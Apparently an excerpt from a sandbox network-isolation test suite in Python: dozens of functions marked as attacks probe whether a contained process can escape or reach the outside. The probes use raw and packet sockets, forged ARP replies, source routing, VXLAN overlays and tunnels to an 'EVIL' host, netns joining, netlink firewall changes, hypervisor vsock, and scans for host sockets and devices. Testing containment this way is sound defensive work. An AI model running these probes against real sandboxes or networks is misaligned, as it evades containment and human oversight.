# Everything that is no plain TCP connection, and everything that would change the sandbox's own network.
import ctypes, subprocess

libc = ctypes.CDLL(None, use_errno=True)


def syscall(number, *arguments):
    if libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments)) < 0:
        return errno.errorcode[ctypes.get_errno()]
    return "allowed"


def datagram(host, port, data=b"hello", options=()):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        for level, name, value in options:
            client.setsockopt(level, name, value)
        client.settimeout(0.7)
        client.connect((host, port))
        client.send(data)
        return repr(client.recv(100))


def of_kind(family, kind, protocol=0):
    with socket.socket(family, kind, protocol):
        return "allowed"


def run(*command):
    ran = subprocess.run(command, capture_output=True, text=True, timeout=20)
    return "allowed" if ran.returncode == 0 else "refused"


@attack
def a_datagram():
    return datagram(EVIL, 9999)


@attack
def a_datagram_to_an_allowed_host():
    return datagram(ALLOWED, 9999)


@attack
def a_datagram_to_a_listed_range():
    return datagram(LISTED, 9999)


@attack
def quic():
    return datagram(ALLOWED, 443, b"\xc3\0\0\0\1" + bytes(1195))


@attack
def a_datagram_to_the_gate():
    return datagram(GATE, 9999)


@attack
def multicast():
    return datagram("224.0.0.251", 5353)


@attack
def a_broadcast():
    return datagram("100.64.0.3", 9, options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])


@attack
def a_broadcast_to_everybody():
    return datagram("255.255.255.255", 67, options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])


@attack
def an_echo_request_by_an_unprivileged_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as client:
        client.settimeout(0.7)
        client.sendto(b"\x08\0\xf7\xff\0\0\0\0", (EVIL, 0))
        return repr(client.recv(100))


@attack
def an_echo_request_by_a_raw_socket():
    return of_kind(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attack
def a_whole_packet_by_a_raw_socket():
    return of_kind(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


@attack
def generic_routing_encapsulation():
    return of_kind(socket.AF_INET, socket.SOCK_RAW, 47)


@attack
def a_packet_in_a_packet():
    return of_kind(socket.AF_INET, socket.SOCK_RAW, 4)


@attack
def an_encrypted_packet():
    return of_kind(socket.AF_INET, socket.SOCK_RAW, 50)


@attack
def a_raw_socket_of_ipv6():
    return of_kind(socket.AF_INET6, socket.SOCK_RAW, 58)


@attack
def a_frame_by_a_packet_socket():
    return of_kind(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))


@attack
def a_forged_answer_of_address_resolution():
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0806)) as client:
        client.sendto(b"\0\1\x08\0\6\4\0\2" + bytes(20), ("eth0", 0x0806))
        return "allowed"


@attack
def a_stream_of_sctp():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as client:
        client.settimeout(1)
        client.connect((EVIL, 9999))
        return "allowed"


@attack
def congestion_controlled_datagrams():
    with socket.socket(socket.AF_INET, 6, 33) as client:
        client.settimeout(1)
        client.connect((EVIL, 9999))
        return "allowed"


@attack
def light_datagrams():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as client:
        client.settimeout(0.7)
        client.connect((EVIL, 9999))
        client.send(b"hello")
        return repr(client.recv(100))


@attack
def a_connection_of_many_paths():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as client:
        client.settimeout(PATIENCE)
        client.connect((EVIL, 6001))
        client.sendall(b"hello\n")
        return said(client.recv(100))


@attack
def data_in_the_first_packet_of_a_connection():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
        # Blocking: with a timeout, the call answers before anything has come of it.
        client.sendto(b"hello\n", 0x20000000, (EVIL, 6002))
        client.settimeout(PATIENCE)
        return said(client.recv(100))


@attack
def a_route_of_the_senders_choice():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
        client.settimeout(PATIENCE)
        client.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\7\4" + socket.inet_aton(EVIL) + b"\0")
        client.connect((ALLOWED, 6003))
        client.sendall(b"hello\n")
        return said(client.recv(100))


@attack
def a_foreign_source_address():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
        client.settimeout(PATIENCE)
        client.bind(("100.64.0.6", 0))
        return "allowed"


@attack
def a_transparent_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
        client.setsockopt(socket.IPPROTO_IP, 19, 1)
        client.bind(("203.0.113.77", 0))
        return "allowed"


@attack
def a_mark_that_rules_might_obey():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
        client.setsockopt(socket.SOL_SOCKET, 36, 1)
        client.settimeout(PATIENCE)
        client.connect((EVIL, 6004))
        client.sendall(b"hello\n")
        return said(client.recv(100))


@attack
def a_connection_of_ipv6():
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as client:
        client.settimeout(1)
        client.connect(("2001:db8:113::10", 5432))
        return "allowed"


@attack
def another_address():
    return run("ip", "address", "add", "100.64.0.6/30", "dev", "eth0")


@attack
def another_route():
    return run("ip", "route", "replace", "default", "via", "100.64.0.3", "dev", "eth0")


@attack
def another_hardware_address():
    return run("ip", "link", "set", "eth0", "address", "02:64:40:00:00:01")


@attack
def another_neighbour():
    return run("ip", "neighbour", "replace", GATE, "lladdr", "02:00:00:00:00:99", "dev", "eth0")


@attack
def another_interface():
    return run("ip", "link", "add", "dummy7", "type", "dummy")


@attack
def an_overlay_to_the_attacker():
    return run("ip", "link", "add", "vx7", "type", "vxlan", "id", "7", "remote", EVIL, "dstport", "4789", "dev", "eth0")


@attack
def a_tunnel_device():
    return run("ip", "tuntap", "add", "dev", "tun7", "mode", "tun")


@attack
def the_device_of_tunnels():
    import fcntl
    with open("/dev/net/tun", "r+b", buffering=0) as device:
        fcntl.ioctl(device, 0x400454ca, struct.pack("16sH22x", b"tun7", 1))
    return "allowed"


@attack
def forwarding():
    # A kernel of the sandbox's own may let its root turn it on: there is nobody to forward for.
    with open("/proc/sys/net/ipv4/ip_forward", "w") as file:
        file.write("1")
    with open("/proc/net/dev") as file:
        interfaces = {line.split(":")[0].strip() for line in file if ":" in line}
    return "of no use" if interfaces <= {"lo", "eth0"} else "allowed"


@attack
def a_firewall_of_ones_own():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as client:
        client.settimeout(1)
        # A batch that would make a table.
        message = struct.pack("=IHHII4x", 20, 16, 1, 1, 0) + struct.pack("=IHHII", 28, 0xA00, 0x405, 2, 0) + b"\1\0\0\0" + struct.pack("=HH", 6, 1) + b"t\0\0\0" + struct.pack("=IHHII4x", 20, 17, 1, 3, 0)
        client.send(message)
        answer = client.recv(4096)
        code = struct.unpack("=i", answer[16:20])[0]
        return errno.errorcode.get(-code, "allowed")


@attack
def the_hypervisor():
    with socket.socket(40, socket.SOCK_STREAM) as client:
        client.settimeout(1)
        client.connect((2, 1024))
        return "allowed"


def family(name, number, kind=socket.SOCK_DGRAM):
    attacks[f"a socket of {name}"] = lambda: of_kind(number, kind)


for name, number, kind in [("the kernels cryptography", 38, 5), ("cluster communication", 30, 2), ("reliable datagrams", 21, 5), ("shared memory communication", 43, 1),
                           ("express data paths", 44, 3), ("key management", 15, 3), ("controller networks", 29, 3), ("bluetooth", 31, 5),
                           ("amateur radio", 3, 5), ("kernel connections", 41, 2), ("remote calls of the kernel", 33, 2), ("qualcomm routers", 42, 2)]:
    family(name, number, kind)


@attack
def a_ring_that_makes_sockets_unseen():
    return syscall(425, 8, ctypes.create_string_buffer(120))


@attack
def a_socket_by_the_calls_of_another_abi():
    # In a process of its own: a filter may kill for it.
    program = "import ctypes; exit(0 if ctypes.CDLL(None).syscall(ctypes.c_long(0x40000000 | 41), ctypes.c_long(40), ctypes.c_long(1), ctypes.c_long(0)) >= 0 else 9)"
    return run("python3", "-c", program)


@attack
def a_network_of_ones_own_with_a_way_out():
    ran = subprocess.run(["unshare", "--user", "--map-root-user", "--net", "sh", "-c", "ip -o link | grep -v ' lo:' | grep -q . && echo out"], capture_output=True, text=True, timeout=20)
    return "allowed" if "out" in ran.stdout else "refused"


@attack
def the_network_of_another_process():
    return outcome(lambda: syscall(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0x40000000))


@attack
def a_program_in_the_kernel():
    return syscall(321, 5, ctypes.create_string_buffer(128), 128)


@attack
def abstract_sockets_of_the_host():
    with open("/proc/net/unix") as file:
        names = [line.split()[7] for line in file.read().splitlines()[1:] if len(line.split()) > 7]
    return "none" if not any(name.startswith("@") for name in names) else " ".join(names)


@attack
def sockets_of_the_control_plane():
    found = []
    for place in ["/var/lib/corral/run", "/run/corral", "/var/run", "/run", "/tmp"]:
        for folder, _, files in os.walk(place):
            found += [file for file in files if file.endswith(".sock")]
    return "none" if not found else " ".join(found)


@attack
def devices_of_the_host():
    # fuse and net are there in gVisor, whose own kernel is behind them.
    usual = {"fuse", "net", "console", "core", "fd", "full", "mqueue", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout", "tty", "urandom", "zero"}
    return " ".join(sorted(set(os.listdir("/dev")) - usual)) or "none"


@attack
def a_device_made_by_oneself():
    path = f"/tmp/memory-{os.getpid()}"
    os.mknod(path, 0o20666, os.makedev(1, 1))
    with open(path, "rb") as device:
        return repr(device.read(16))
